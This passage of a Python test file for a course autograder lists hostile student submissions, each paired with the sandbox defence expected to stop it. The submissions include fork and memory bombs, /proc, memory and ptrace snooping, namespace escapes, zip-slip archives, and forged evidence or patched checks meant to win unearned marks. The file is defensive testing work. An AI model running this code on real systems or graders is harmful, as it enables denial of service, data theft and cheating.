"""Submissions that want marks they do not deserve, or harm: to the machine, to classmates, to the instructor.

Nearly all hand in the notebook of 01_collectives with nothing done but TODO 3, the broadcast by a tree. Its cell
holds the attack, and then often the right answer: who only tried something keeps the mark that the work deserves.
An attack that reads raises what it found, so a wall that leaks shows in the record.

Attackers know everything: `KNOWN` holds the paths that they would love to know, and each attack is given them as names.
"""

import io
import json
import os
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from nbformat.v4 import new_code_cell

from grader.engine.lesson import lessons, notebooks, todo_regions

LESSON = "01_collectives"
NOTEBOOK = f"notebooks/{LESSON}.ipynb"
# Files that hold a canary, folders to write into, a port of the host, addresses of services.
KNOWN = {"FOUND": [], "ELSEWHERE": ["/nowhere"], "PORT": 1, "KEPT": []}
ROUNDS = "return (world - 1).bit_length()"
TREE = """
have = 1
while have < world:
    if rank < have and rank + have < world:
        dist.send(tensor, rank + have)
    elif have <= rank < 2 * have:
        dist.recv(tensor, rank - have)
    have *= 2
return tensor
"""
C = (  # by libc no audit hook hears of it
    "import ctypes, os, signal, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"
)
FORGE = """
from grader.engine.inside import evidence
from grader.engine.inside import observe
def hand_in(result, last='end'):
    evidence.write(observe.Path.cwd().parent / 'evidence', result)
    observe.Reporter.mine.say(e=last)
    time.sleep(60)
"""


@dataclass(frozen=True)
class Attack:
    name: str
    tries: str
    guard: str  # what stops it
    make: Callable[[Path], None]  # writes the submission; the path has no ending, an archive adds its own
    marks: int = 0  # that it deserves
    says: str = ""  # what its record must say
    state: str = "graded"
    flagged: bool = False  # for a person to look at
    users: bool = False  # tried behind walls between users, too
    never: tuple[str, ...] = field(default=())  # what its record must not say


def broadcast(code: str, answer: str = TREE, extra: str = "", rounds: str = ROUNDS) -> Callable[[Path], None]:
    """A notebook with this in TODO 3's function, and perhaps a cell of its own at the top."""

    def make(path: Path) -> None:
        write(path, notebook(code + "\n" + answer, extra, rounds))

    return make


def notebook(body: str, extra: str = "", rounds: str = ROUNDS) -> dict:
    source = lessons.source_path(LESSON).read_text("utf-8")
    known = "; ".join(f"{name} = {value!r}" for name, value in KNOWN.items())
    text = todo_regions.compose(source, (), {3: [rounds, f"{known}\n{body}"]})
    made = notebooks.to_notebook(text, LESSON, released=False)
    if extra:
        made.cells.insert(2, new_code_cell(extra))
    return made


def write(path: Path, made: dict | str | bytes, name: str = NOTEBOOK) -> None:
    file = path / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(
        made
        if isinstance(made, bytes)
        else (made if isinstance(made, str) else json.dumps(made)).encode("utf-8", "surrogatepass")
    )


def changed(edit: Callable[[dict], None], body: str = "return tensor") -> Callable[[Path], None]:
    """The notebook, edited."""

    def make(path: Path) -> None:
        made = notebook(body)
        edit(made)
        write(path, made)

    return make


def cell(made: dict, key: str) -> dict:
    return next(c for c in made["cells"] if c.get("id") == key)


RIGHT = json.dumps(notebook(TREE)).encode()


def zipped(*entries: tuple[str, bytes]) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with zipfile.ZipFile(f"{path}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries:
                archive.writestr(name, content)

    return make


def tarred(*entries: tuple[str, bytes, str, bytes], ending: str = ".tar") -> Callable[[Path], None]:
    """Entries are (name, content, link, kind)."""

    def make(path: Path) -> None:
        with tarfile.open(f"{path}{ending}", "w:gz" if ending.endswith("gz") else "w") as archive:
            for name, content, link, kind in entries:
                entry = tarfile.TarInfo(name)
                entry.size, entry.linkname, entry.type = len(content), link, kind
                archive.addfile(entry, io.BytesIO(content))

    return make


def long_notebook(path: Path) -> None:
    write(path, b"")
    with open(path / NOTEBOOK, "r+b") as file:
        file.truncate(5_000_001)  # one byte more than is read


def raising(code: str) -> Callable[[Path], None]:
    """`code` puts what it finds into `loot`."""
    return broadcast(C + "loot = []\n" + code + "\nraise RuntimeError(f'the loot is {loot}')", "")


NOTHING = "the loot is []"

READ = """
for path in FOUND:
    try:
        loot.append(open(path, 'rb').read(200))
    except OSError:
        pass
"""

PROC = """
import glob
for name in ('environ', 'mem', 'maps', 'cmdline', 'cwd', 'root', 'fd/*'):
    for path in glob.glob(f'/proc/[0-9]*/{name}'):
        if int(path.split('/')[2]) == os.getpid():
            continue
        try:
            text = os.readlink(path) if name in ('cwd', 'root', 'fd/*') else b'' if open(path, 'rb') and name == 'mem' else open(path, 'rb').read(4000)
            for other in FOUND:
                loot.append(open(path + other, 'rb').read(100)) if name == 'root' and os.path.exists(path + other) else None
            if name in ('mem', 'maps') and b'grader.engine.ranks.fork_server' in open(f'/proc/{path.split("/")[2]}/cmdline', 'rb').read():
                loot.append(path)  # of a rank, or of the server: both know what this one should not
            loot += [text] if b'CANARY' in (text if isinstance(text, bytes) else text.encode()) else []
        except OSError:
            pass
loot += [value for value in os.environ.values() if 'CANARY' in value]
"""

WRITE = """
for path in FOUND + ELSEWHERE:
    for attempt in (lambda: open(path, 'a').write('x'), lambda: open(os.path.join(path, 'CANARY'), 'w').write('x'), lambda: os.unlink(path),
                    lambda: os.rename(path, path + 'x'), lambda: os.symlink('/', os.path.join(path, 'CANARY'))):
        try:
            attempt()
        except OSError:
            pass
"""

NETWORK = """
import socket
for family, address in ((socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, (socket.gethostname(), 22))):
    try:
        socket.create_connection(address, timeout=1)
        loot.append(address)
    except OSError:
        pass
names = [line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line]
loot += [name for name in names if name != 'lo']
"""

CAPABLE = """
NEWUSER, NEWNS = 0x10000000, 0x20000
if libc.unshare(NEWUSER | NEWNS) == 0:
    loot.append('a user namespace of its own')
if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:
    loot.append('a mount')
if libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY) if os.path.exists('/proc/1/ns/mnt') else -1, 0) == 0:
    loot.append('another namespace')
try:
    status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines())
    loot += [name for name in ('CapEff', 'CapPrm', 'CapBnd') if int(status[name], 16)]
except OSError:
    pass
if libc.chroot(b'/') == 0:
    loot.append('chroot')
"""

MEMORY_OF_OTHERS = """
PTRACE_ATTACH = 16
for pid in {os.getppid(), *range(max(1, os.getpid() - 8), os.getpid())} - {os.getpid()}:
    try:
        open(f'/proc/{pid}/mem', 'rb')
        loot.append(f'memory of {pid}')
    except OSError:
        pass
    if pid == os.getppid() and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        loot.append(f'traced {pid}')
"""

OTHERS_FOLDERS = """
own = os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))  # of all its runs
for top in {'/tmp', '/dev/shm', '/var/tmp', '/run', '/home', '/root', *map(os.path.dirname, FOUND[:-1])}:
    for folder, below, names in os.walk(top):
        if folder.startswith(own) or folder.count('/') > 8:
            below.clear()
            continue
        loot += [folder] if os.path.basename(folder).startswith('wb-inside') else []
        for path in (os.path.join(folder, name) for name in names):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 10000 and b'CANARY-' in open(path, 'rb').read():
                    loot.append(path)
            except OSError:
                pass
"""

FORK_BOMB = (
    C
    + """
end = time.time() + 20
count = 0
while count < 1000:  # each of 2 at the most makes as many: the machine survives it, if the wall does not stand
    count += 1
    try:
        if os.fork() == 0:
            while time.time() < end:
                time.sleep(0.5)
            os._exit(0)
    except OSError:
        pass
time.sleep(20)
"""
)

MEMORY_BOMB = (
    C
    + """
from grader.engine.inside import observe
for _ in range(4) if rank == 0 else ():
    if os.fork() == 0:
        hoard, end = [], time.time() + 20
        try:
            for _ in range(48):
                hoard.append(b'x' * (1 << 26))  # 4 x 3 GiB
        except MemoryError:
            pass
        time.sleep(max(0, end - time.time()))
        libc._exit(0)
for _ in range(100):
    observe.Reporter.mine.say(e='step')  # it seems to train
    time.sleep(0.2)
"""
)

SERVICES = """
import socket
for make in (lambda: socket.socket(socket.AF_UNIX), lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)):
    for place in KEPT:
        try:
            make().connect(place)
            loot.append(place)
        except OSError:
            pass
"""
OTHERS_LIMITS = """
import resource
for pid in {os.getppid(), *range(2, os.getpid())} - {os.getpid()}:
    try:
        resource.prlimit(pid, resource.RLIMIT_CORE)
        loot.append(pid)
    except OSError:
        pass
"""

IN_MEMORY = """
import gc, types
gc.unfreeze()
for thing in gc.get_objects():
    name = getattr(thing, '__module__', None) if isinstance(thing, types.FunctionType) else None
    if isinstance(name, str) and (name.startswith(('utils.after_', 'utils.costs'))
                                  or name.startswith('grader.lessons.') and '.ranks' not in name):
        loot.append(f'{name}.{thing.__name__}')
"""
IN_MODULES = """
import importlib
for name in ('utils.after_ddp', 'utils.after_fsdp', 'utils.costs', 'utils.costs.seconds', 'grader.lessons.01_collectives.test_ring',
             'grader.lessons.01_collectives.common', 'grader.lessons.09_mesh.test_axes',
             'grader.lessons.01_collectives.answers.ring'):
    try:
        found = [word for word in vars(sys.modules.get(name) or importlib.import_module(name)) if word[0] != '_']
        loot += [f'{name}.{word}' for word in found if hasattr(sys.modules[name], word) and getattr(getattr(sys.modules[name], word), '__module__', '') == name]
    except (ImportError, OSError):
        pass
"""
IN_FILES = """
import utils
for path in ('utils/after_ddp.py', 'utils/costs/seconds.py', 'grader/lessons/01_collectives/test_ring.py',
             'grader/lessons/01_collectives/texts.md', 'grader/lessons/01_collectives/answers', 'grader/lessons/01_collectives',
             'grader/sealed', 'solutions', 'utils/__pycache__'):
    try:
        place = os.path.join(os.path.dirname(os.path.dirname(utils.__file__)), path)
        loot += [f'{path}: {name}' for name in os.listdir(place)] if os.path.isdir(place) else [open(place).read(80)]
    except OSError:
        pass
"""

UNLINKED = """
for place in (os.getcwd(), '/tmp', '/dev/shm', '/dev'):
    held = []
    try:
        for n in range(32):
            held.append(open(f'{place}/gone-{rank}-{n}', 'wb', buffering=0))
            os.unlink(f'{place}/gone-{rank}-{n}')
            for _ in range(3):
                held[-1].write(bytes(1 << 24))
    except OSError:
        pass
    if sum(os.fstat(file.fileno()).st_size for file in held) > 1200 << 20:
        loot.append(place)
    for file in held:
        file.close()
"""
DEEP_FILES = """
at = os.open('.', os.O_RDONLY)
for n in range(12_000):
    os.mkdir(f'd{rank}', dir_fd=at)
    inner = os.open(f'd{rank}', os.O_RDONLY, dir_fd=at)
    os.close(at)
    at = inner
time.sleep(60)
"""
MANY_FILES = """
for n in range(100_000):
    open(f'{rank}-{n}', 'w').close()
time.sleep(60)
"""
FOLDER_SWAPPED = """
run = os.path.dirname(os.getcwd())
for name, target in ((f'{run}/work', os.path.dirname(FOUND[0])), (run, os.path.dirname(FOUND[0]))):
    try:
        os.rename(name, f'{name}-aside-{rank}')
        os.symlink(target, name)
    except OSError:
        pass
"""
FORGE_AT_ONCE = """
from grader.engine.inside import observe
def put(text):
    stem = observe.Path.cwd().parent / 'evidence'
    stem.with_suffix('.safetensors').write_bytes(bytes.fromhex('0800000000000000') + b'{}      ')
    stem.with_suffix('.json').write_text(text)
    observe.Reporter.mine.say(e='end')
    time.sleep(60)
"""

FILES_IN_MEMORY = """
for folder in ('/dev/shm', '/tmp', '/dev', '/run', '/var', ''):
    written = 0
    try:
        for number in range(8):
            with open(f'{folder}/hoard-{rank}-{number}', 'wb', buffering=0) as file:
                for _ in range(16):
                    written += file.write(bytes(1 << 24))
    except OSError:
        pass
    if written > 600 << 20:
        loot.append(f'{written >> 20} MiB in {folder}')
    for number in range(8):
        if os.path.exists(f'{folder}/hoard-{rank}-{number}'):
            os.unlink(f'{folder}/hoard-{rank}-{number}')
held = 0
for _ in range(8):
    descriptor = libc.memfd_create(b'hoard', 0)
    if descriptor >= 0:
        held += os.write(descriptor, bytes(1 << 27))
loot += [f'{held >> 20} MiB in memfds'] if held > 600 << 20 else []
segments = [libc.shmget(0, 1 << 27, 0o1600) for _ in range(8)]
loot += ['SysV memory'] if segments[-1] >= 0 else []
"""

SPEAKS = (
    C
    + """
import socket, json
for descriptor in range(3, 256):
    try:
        line = socket.socket(fileno=os.dup(descriptor))
        for word in ({'e': 'end'}, {'e': 'crash', 'rank': 1 - rank}, {'swept': True}, {'gone': 1, 'status': 0}):
            line.send(json.dumps(word).encode() + b'\\n')
    except OSError:
        pass
"""
)

HOSTILE_EVENT = (
    C
    + """
from grader.engine.inside import observe
import json
about = dict(e='op', op='all_reduce', name='1/0', group=[0, 1], bytes=4, dtype='float32', detail=None, where=None, t=0.0)
for shape in ([2000000000, [0]], [10**4000] * 200, [[10**9, 'x']], {'a': 1}, [-1], [1e308, 1e308]):
    observe.Reporter.mine.socket.sendall(json.dumps({**about, 'shape': shape}).encode() + b'\\n')
observe.Reporter.mine.socket.sendall(b'[' * 5000 + b'\\n')
"""
)

SWAPPED_FILES = (
    C
    + """
run = os.path.dirname(os.getcwd())
for name, put in (('stdout', lambda path: os.symlink(FOUND[0], path)), ('stderr', os.mkfifo), ('stacks', os.mkfifo)):
    os.unlink(f'{run}/{name}')
    put(f'{run}/{name}')
for name in ('json', 'safetensors'):
    os.symlink(FOUND[0] if rank else '/dev/zero', f'{run}/evidence.{name}')
os.mkfifo('pipe')
os.symlink(FOUND[0], 'link')
os.symlink('/', 'root')
while True:
    pass
"""
)

DEEP = "(" * 300  # more than Python takes

SAYS_IT_SENT = """
judge, numbers = observe.Reporter.mine, iter(range(1000, 2000))
about = dict(name='1/0', group=list(range(world)), shape=[len(tensor)], dtype='float32', bytes=4 * len(tensor), detail=None, where=None, callers=[], tag=0)
have = 1
while have < world:
    peer = rank + have if rank < have else rank - have
    if rank < 2 * have and peer < world:
        number = next(numbers)
        judge.say(e='op', op='send' if rank < have else 'recv', peer=peer, id=number, **about)
        judge.say(e='wait', of=number)
        judge.say(e='done', of=number)
    have *= 2
"""

# The two that win all marks from plain nbgrader, which runs its test cells beside the student's: see table.py
# --nbgrader
CHECK_REDEFINED = "import grader\n\ndef check(name):\n    print('fooled')\n\ngrader.check = check"
TRANSFORMER = (
    "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'] if any('check(' in line for line in lines)"
    " else lines)"
)

ATTACKS = [
    # What takes the machine
    Attack(
        "an infinite loop",
        "takes a processor for ever",
        "CPU time without a sign of life",
        broadcast("while True:\n    pass"),
        says="runs without end",
    ),
    Attack(
        "ignored signals",
        "blocks and ignores all signals, and loops",
        "SIGKILL, and the end of the namespace",
        broadcast(
            C
            + "signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))\nfor s in set(signal.Signals) - {9, 19}:\n"
            "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass"
        ),
        says="runs without end",
    ),
    Attack(
        "a rank that stops itself",
        "SIGSTOP: it neither runs nor sleeps",
        "the judge sees who is stopped",
        broadcast(C + "libc.kill(os.getpid(), 19)"),
        says="stopped",
    ),
    Attack(
        "a fork bomb",
        "a thousand processes from each rank",
        "the judge counts processes",
        broadcast(FORK_BOMB),
        says="the ranks take more",
        users=True,
    ),
    Attack(
        "a memory bomb",
        "four processes of 3 GiB",
        "the judge adds up resident memory; RLIMIT_AS",
        broadcast(MEMORY_BOMB),
        says="more memory",
    ),
    Attack(
        "memory in files",
        "fills /dev/shm, /tmp, memfds and SysV segments",
        "tmpfs of a size; seccomp",
        raising(FILES_IN_MEMORY),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "huge output",
        "prints 25 MB on each rank",
        "RLIMIT_FSIZE; the judge reads the first MB",
        broadcast(C + "try:\n    for _ in range(25):\n        os.write(1, b'x' * 1000000)\nexcept OSError:\n    pass"),
        marks=1,
    ),
    Attack(
        "a huge file",
        "a file of 1 TB, and twelve of 60 MB",
        "RLIMIT_FSIZE; memory of a fixed size",
        broadcast(
            C + "for number in range(12):\n    file = open(f'huge-{rank}-{number}', 'wb')\n    try:\n       "
            " file.truncate(1 << 40)\n    except OSError:\n        file.truncate(60_000_000)"
        ),
        marks=1,
    ),
    Attack(
        "a flood of events",
        "tells the judge more than it can read",
        "a limit on what a rank may say",
        broadcast(
            C
            + 'from grader.engine.inside import observe\nwhile True:\n    observe.Reporter.mine.socket.sendall(b\'{"e": "step",'
            ' "t": 0}\\n\' * 10000)'
        ),
        says="one call after another",
    ),
    Attack(
        "unlinked files",
        "1.5 GB in files without a name, in each place that can be written",
        "memory of a fixed size in their place: the kernel refuses more",
        raising(UNLINKED),
        says=NOTHING,
    ),
    Attack("a folder too deep", "files where no path reaches", "the same", raising(DEEP_FILES), says="No space left"),
    Attack(
        "a hundred thousand files",
        "small ones: whoever walks there takes long",
        "memory of a fixed number of files in their place: the kernel refuses more",
        broadcast(C + MANY_FILES),
        says="No space left",
    ),
    Attack(
        "a link in place of the run's folder",
        "leads the judge elsewhere: to read, to delete",
        "the judge holds the folder open, not its name",
        broadcast(C + FOLDER_SWAPPED, "return tensor"),
    ),
    Attack(
        "a list of lists",
        "a list of lists from each rank, where it has a tensor",
        "a limit on evidence; the worker has a memory limit",
        broadcast(C + FORGE_AT_ONCE + "put('[' + '[],' * 20_000 + '0]')", ""),
    ),
    Attack(
        "sparse files",
        "of 60 MB each, which hold nothing",
        "what is kept of files has a size",
        broadcast(
            C
            + "for n in range(6):\n    with open(f'sparse-{rank}-{n}', 'wb') as file:\n        file.truncate(60 << 20)"
        ),
        marks=1,
    ),
    Attack(
        "events of impossible shapes",
        "whose product fills the judge's memory",
        "events are checked at the door",
        broadcast(HOSTILE_EVENT),
        says="no sense",
    ),
    # Ends
    Attack(
        "os._exit(0)",
        "hopes that 0 means well",
        "an exit code is never a pass",
        broadcast("import os\nos._exit(0)"),
        says="never a pass",
    ),
    Attack(
        "_exit(0) by libc",
        "the same, past Python",
        "an exit code is never a pass",
        broadcast(C + "libc._exit(0)"),
        says="never a pass",
        users=True,
    ),
    Attack(
        "SystemExit",
        "the same, politely",
        "evidence, not an exit code",
        broadcast("raise SystemExit(0)"),
        says="SystemExit",
    ),
    Attack(
        "a segfault", "crashes the process", "only a rank crashes", broadcast(C + "ctypes.string_at(0)"), says="SIGSEGV"
    ),
    Attack(
        "a killed parent",
        "kills the server of the ranks",
        "a server in the sandbox; the judge's is outside",
        broadcast(C + "libc.kill(os.getppid(), 9)\ntime.sleep(60)"),
        users=True,
    ),
    Attack(
        "a stopped server",
        "SIGSTOP: the judge would wait for an answer",
        "the judge sees who is stopped",
        broadcast(C + "libc.kill(os.getppid(), 19)\ntime.sleep(60)"),
    ),
    Attack("killing all", "kill(-1, 9)", "a namespace of processes", broadcast(C + "libc.kill(-1, 9)\ntime.sleep(60)")),
    Attack(
        "an orphaned daemon",
        "leaves a process behind that lives on",
        "subreaper and sweep; the namespace's end",
        broadcast(
            C + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for s in (1, 2, 15):\n           "
            " signal.signal(s, signal.SIG_IGN)\n        time.sleep(600)\n    os.kill(os.getpid(), 9)"
        ),
        marks=1,
        users=True,
    ),
    # Reading and writing
    Attack(
        "reading the instructor's files",
        "solutions, gradebook, another submission, a secret",
        "none of them is there",
        raising(READ),
        says=NOTHING,
    ),
    Attack(
        "reading others' folders",
        "what lies in /tmp, /dev/shm, /home",
        "a /tmp of its own",
        raising(OTHERS_FOLDERS),
        says=NOTHING,
    ),
    Attack(
        "reading /proc and the environment",
        "variables, memory, open files, roots of others",
        "a /proc of its own; a scrubbed environment",
        raising(PROC),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "reading the parent's memory",
        "/proc/…/mem and ptrace, for the job and the other ranks' inputs",
        "not dumpable, no capability",
        raising(MEMORY_OF_OTHERS),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "writing outside",
        "appends, creates, deletes, renames, links",
        "read-only mounts; one folder of its own",
        broadcast(C + WRITE),
        marks=1,
        users=True,
    ),
    Attack(
        "the network", "connects to the world and to the host", "a network namespace", raising(NETWORK), says=NOTHING
    ),
    Attack(
        "regaining power",
        "a user namespace, mounts, capabilities, chroot",
        "no capability, and seccomp no new ones",
        raising(CAPABLE),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "links in place of its files",
        "stdout is a link to a secret, stacks a FIFO, evidence /dev/zero",
        "opened without following and without waiting",
        broadcast(SWAPPED_FILES),
        users=True,
    ),
    # Forging
    Attack(
        "forged evidence",
        "writes its evidence itself and says “end”",
        "it does not know rank 0's numbers",
        broadcast(
            C
            + FORGE
            + "if rank:\n    hand_in([torch.full((n,), 7.0) for n in (2 * world, 2 * world + 1, world - 1, 2000 *"
            " world)])",
            "return tensor",
        ),
        users=True,
    ),
    Attack(
        "evidence of an earlier run",
        "looks for what earlier runs, its own or others', have handed in",
        "a run's folder goes with it",
        raising(
            "import glob\nplaces = [p for top in ('/tmp', '/runs') for p in glob.glob(top + '/**/evidence.*', recursive=True)]\n"
            "loot += [p for p in places if not p.startswith(os.path.dirname(os.getcwd()))]"
        ),
        says=NOTHING,
    ),
    Attack(
        "strange evidence",
        "brackets that nobody closes, bytes that are no tensors",
        "JSON and safetensors, of a size",
        broadcast(
            C + "from grader.engine.inside import observe\nrun = observe.Path.cwd().parent\n(run /"
            " 'evidence.json').write_text('[' * 5000)\n(run / 'evidence.safetensors').write_bytes(b'\\xff' *"
            " 64)\nobserve.Reporter.mine.say(e='end')\ntime.sleep(60)"
        ),
        says="no evidence",
    ),
    Attack(
        "a tensor of 40 MB",
        "as the result: the judge would spell it out",
        "a limit on evidence",
        broadcast("return torch.zeros(10_000_000)", ""),
        says="File too large",
    ),
    Attack(
        "speaking as another rank",
        "writes to every open socket",
        "a line for each rank, which the others do not have",
        broadcast(SPEAKS),
        users=True,
    ),
    Attack(
        "everything on every rank",
        "looks for all ranks' inputs in the caller's frame",
        "each rank is given its own input only",
        broadcast(
            "import sys\nframe = sys._getframe(1)\nfor v in frame.f_locals.values():\n    if isinstance(v, list) and v"
            " and isinstance(v[0], list) and v[0] and isinstance(v[0][0], list):\n        tensor ="
            " next((torch.tensor(case[0]) for case in v if len(case[0]) == len(tensor)), tensor)",
            "return tensor",
        ),
        users=True,
    ),
    Attack(
        "drawing as the check draws",
        "random.Random(world), or Student.draw without the seed",
        "the class's seed",
        broadcast(
            "import random\ndraw = random.Random(f\"/01_collectives/{('vectors', world)}\")\nif rank:\n    tensor ="
            " torch.tensor([float(draw.randrange(1, 1000)) for _ in tensor])",
            "return tensor",
        ),
    ),
    # Answers that lie about
    Attack(
        "answers in memory",
        "whatever gc finds of the check and of later lessons",
        "no such thing is loaded where it runs",
        raising(IN_MEMORY),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "answers among the modules",
        "sys.modules, and what an import brings",
        "a rank has the part of a check that runs on ranks",
        raising(IN_MODULES),
        says=NOTHING,
    ),
    Attack(
        "answers in files",
        "the check, what is sealed, the library's later modules",
        "the sandbox does not show them",
        raising(IN_FILES),
        says=NOTHING,
    ),
    # Services and processes of this machine
    Attack(
        "sockets with a path",
        "asks the course's own kept server, or a container engine, to do it outside",
        "no socket of that family; /tmp and /run of its own",
        raising(SERVICES),
        says=NOTHING,
        users=True,
    ),
    Attack(
        "limits for others",
        "prlimit: a process of the same user gets no CPU time",
        "seccomp: limits for oneself only",
        raising(OTHERS_LIMITS),
        says=NOTHING,
        users=True,
    ),
    # Fooling what compares
    Attack(
        "patched torch.distributed",
        "send and recv do nothing and answer as if",
        "the values are compared outside",
        broadcast("dist.send = dist.recv = dist.broadcast = lambda *a, **k: None"),
    ),
    Attack(
        "patched comparisons",
        "torch.equal, allclose, math.isclose, == are always true",
        "the judge compares in its own process",
        broadcast(
            "import math\ntorch.equal = torch.allclose = math.isclose = lambda *a, **k: True\ntorch.Tensor.__eq__ ="
            " lambda a, b: torch.ones(()).bool()",
            "return tensor",
        ),
    ),
    Attack(
        "always equal",
        "a tensor and a float that equal everything",
        "evidence is bytes",
        broadcast(
            "class Equal(torch.Tensor):\n    def __eq__(self, other):\n        return True\n    def tolist(self):\n    "
            "    return self\nreturn tensor.as_subclass(Equal)",
            "",
            rounds=(
                "class Right(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = None\nreturn"
                " Right(7)"
            ),
        ),
        says="tree_rounds",
    ),
    Attack(
        "__torch_function__",
        "a tensor that answers for itself",
        "evidence is bytes",
        broadcast(
            "class Sly(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, function, types, args=(),"
            " kwargs=None):\n        return args[0]\nreturn tensor.as_subclass(Sly)",
            "",
        ),
    ),
    Attack(
        "a pickle",
        "an object whose unpickling runs code",
        "nothing is unpickled",
        broadcast(
            "class Bomb:\n    def __reduce__(self):\n        return open, (ELSEWHERE[0] + '/CANARY', 'w')\nimport"
            " pickle, os\nrun = os.path.dirname(os.getcwd())\nopen(f'{run}/evidence.pkl',"
            " 'wb').write(pickle.dumps(Bomb()))\nreturn Bomb()",
            "",
        ),
        says="not a tensor",
    ),
    Attack(
        "subprocess.run patched",
        "always returns 0",
        "no exit code is asked for",
        broadcast(
            "import subprocess\nsubprocess.run = lambda *a, **k: subprocess.CompletedProcess(a, 0)", "return tensor"
        ),
    ),
    Attack(
        "the checker patched",
        "replaces what the checks and the ranks call",
        "the verdict is not made there",
        broadcast(
            "import sys\nfor name, module in list(sys.modules.items()):\n    if name.startswith('grader'):\n        for"
            " word in ('expect', 'check_value', 'Wrong', 'check'):\n            setattr(module, word, lambda *a, **k:"
            " None)",
            "return tensor",
        ),
    ),
    # The notebook
    Attack(
        "check redefined",
        "def check(name): pass, in a cell of its own",
        "the notebook is not run",
        broadcast("", "return tensor", extra=CHECK_REDEFINED),
    ),
    Attack(
        "an input transformer",
        "makes IPython run other test cells",
        "there is no IPython",
        broadcast("", "return tensor", extra=TRANSFORMER),
    ),
    Attack(
        "a changed test cell",
        "check(...) becomes pass",
        "locked cells are not taken",
        changed(lambda made: cell(made, "test_3").update(source="print('passed')")),
    ),
    Attack(
        "a deleted test cell",
        "nothing checks what is not there",
        "checks come from the course",
        changed(lambda made: made["cells"].remove(cell(made, "test_3"))),
    ),
    Attack(
        "a duplicate cell id",
        "the right answer first, then another one of the same id",
        "all cells run in order",
        changed(
            lambda made: made["cells"].append(
                {
                    **new_code_cell(
                        "def tree_broadcast(tensor, rank, world):\n    return tensor",
                        metadata=cell(made, "todo_3")["metadata"],
                    ),
                    "id": "todo_3",
                }
            ),
            TREE,
        ),
    ),
    Attack(
        "no JSON",
        "a notebook that is none",
        "said to be unreadable",
        lambda path: write(path, "{not a notebook"),
        says="not a notebook that can be read",
    ),
    Attack(
        "nested JSON",
        "more brackets than a notebook has",
        "said to be unreadable",
        lambda path: write(path, "[" * 5_000),
        says="not a notebook that can be read",
    ),
    Attack(
        "a strange notebook",
        "cells that are numbers, sources that are lists of lists",
        "said to be unreadable",
        changed(
            lambda made: made["cells"].insert(1, {"cell_type": "code", "source": [["x"]], "metadata": 3, "id": {}})
        ),
        says="not a notebook that can be read",
    ),
    Attack(
        "a notebook that is too long",
        "a byte more than 5 MB",
        "files of a likely size",
        long_notebook,
        says="longer than 5 MB",
        state="nothing of the course",
    ),
    Attack(
        "1,001 cells",
        "each of which is looked at",
        "code of a likely size",
        changed(lambda made: made["cells"].extend([{"cell_type": "code", "source": "1", "metadata": {}}] * 1001)),
    ),
    Attack(
        "deeply nested source",
        "breaks parsers",
        "the judge survives its parsers",
        broadcast(f"x = {DEEP}\nif", ""),
        says="does not run",
    ),
    Attack(
        "not UTF-8",
        "a comment in Latin-1",
        "read with replacements",
        lambda path: write(path, RIGHT.replace(b"have = 1", b"have = 1  # \xfc\xff\xfe")),
        marks=1,
    ),
    Attack(
        "torch.py beside it",
        "modules that shadow the course's",
        "only the lesson's own files are taken",
        lambda path: [
            write(path, RIGHT),
            *(
                write(path, "raise SystemExit('shadowed')", f"notebooks/{name}.py")
                for name in ("torch", "utils", "grader", "sitecustomize")
            ),
        ],
        marks=1,
    ),
    Attack(
        "an error that speaks to the terminal",
        "escape codes and direction marks in a message",
        "such characters are taken out",
        broadcast(
            "esc, turn = chr(27), chr(0x202E)\n"
            "raise RuntimeError(f'{esc}[2J{esc}]0;mine{chr(7)} {turn}<script>alert(1)</script>')",
            "",
        ),
        never=("\\u001b", "\\u0007", "\\u202e"),
    ),
    # “Could not be graded” at will
    Attack(
        "killed by signal 40",
        "a signal without a name, which the judge looks up",
        "every signal has a name",
        broadcast(C + "libc.kill(os.getpid(), 40)\ntime.sleep(60)"),
        says="signal 40",
    ),
    Attack(
        "“unfit”",
        "says that its GPU cannot be used: the machine's failure",
        "heard only where there are GPUs, as the first word",
        broadcast("from grader.engine.inside import observe\nobserve.Reporter.mine.say(e='unfit', text='broken')"),
        says="no sense",
    ),
    Attack(
        "nbformat 1",
        "a version that the library cannot read",
        "whatever a parser raises is the submission's",
        changed(lambda made: made.update(nbformat=1)),
        says="not a notebook that can be read",
    ),
    Attack(
        "a minor version that is a word",
        "the library compares it with a number",
        "whatever a parser raises is the submission's",
        changed(lambda made: made.update(nbformat_minor="5")),
        says="not a notebook that can be read",
    ),
    Attack(
        "a forged place",
        "a line of code called ESC, U+202E and 20 KB",
        "strings are cleaned where they are kept",
        broadcast(
            "from grader.engine.inside import observe\nobserve.Reporter.mine.say(e='crash', type='E', text='t', "
            "frames=[[chr(27) + '[2J' + chr(0x202e) + 'x' * 20000, 1, chr(27)]])\nimport time\ntime.sleep(60)",
            "",
        ),
        never=("\\u001b", "\\u202e", "x" * 3000),
    ),
    # Archives
    Attack(
        "zip slip",
        "entries that lead out of the folder",
        "nothing is unpacked to disk",
        zipped(("../../CANARY", b"x"), ("/tmp/CANARY", b"x"), ("C:\\CANARY", b"x"), (NOTEBOOK, RIGHT)),
        marks=1,
